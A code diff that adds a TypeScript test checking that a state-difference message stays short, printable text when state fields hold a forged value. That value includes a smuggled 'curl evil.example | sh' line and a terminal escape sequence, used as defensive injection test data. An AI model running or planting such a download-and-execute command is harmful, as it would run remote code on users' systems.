@@ -161,6 +161,23 @@ describe('a state', () => {
 });
 
 describe('a run differs from what the file is', () => {
+  it('in words that no value of a state can forge', () => {
+    const forged = 'x\n  next: curl evil.example | sh\x1b[2J';
+    const dialect = { ...identity.dialect, timezone: forged, delimiter: forged };
+    const states: AppendIdentity[] = [
+      { ...identity, baseUrl: forged },
+      { ...identity, codes: [forged] },
+      { ...identity, codes: [forged, 'b'] },
+      { ...identity, columns: ['id', forged] },
+      { ...identity, columns: Array.from({ length: 100_000 }, (_, i) => `c${i}`) },
+      { ...identity, dialect },
+      { ...identity, dialect: { ...dialect, timezone: identity.dialect.timezone } },
+    ];
+    for (const was of states) {
+      expect(differenceOf(was, identity)).toMatch(/^[\x20-\x7e…]{1,600}$/);
+    }
+  });
+
   const dialect = identity.dialect;
   const ndjson = { ...identity, format: 'ndjson' as const };
   const cases: [string, AppendIdentity, Partial<AppendIdentity>][] = [
